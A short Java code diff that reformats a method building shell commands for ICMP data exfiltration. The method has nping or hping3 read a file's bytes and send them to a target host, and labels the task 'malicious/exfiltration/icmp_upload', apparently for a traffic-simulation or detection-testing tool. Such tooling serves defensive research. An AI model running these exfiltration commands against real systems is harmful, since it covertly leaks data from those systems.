@@ -83,8 +83,9 @@ final class Exfiltration {
                 ? "nping -q --icmp --send-ip --ttl " + draw.client().ttl() + " --rate " + draw.between(5, 30) + " -c "
                         + draw.size() + " --data $(head -c " + bytes + " " + file(draw)
                         + " | od -An -v -tx1 | tr -d ' \\n') " + target
-                : "timeout -s INT 50 hping3 -q -n --icmp -t " + draw.client().ttl() + " -i u" + draw.between(20_000, 200_000) + " -c "
-                        + draw.size() + " -d " + bytes + " --file " + file(draw) + " " + target + " > /dev/null";
+                : "timeout -s INT 50 hping3 -q -n --icmp -t " + draw.client().ttl() + " -i u"
+                        + draw.between(20_000, 200_000) + " -c " + draw.size() + " -d " + bytes + " --file "
+                        + file(draw) + " " + target + " > /dev/null";
         return new Task(
                 "malicious/exfiltration/icmp_upload", draw.toolOr("hping3"), target, "-", LIMIT_SECONDS, script);
     }
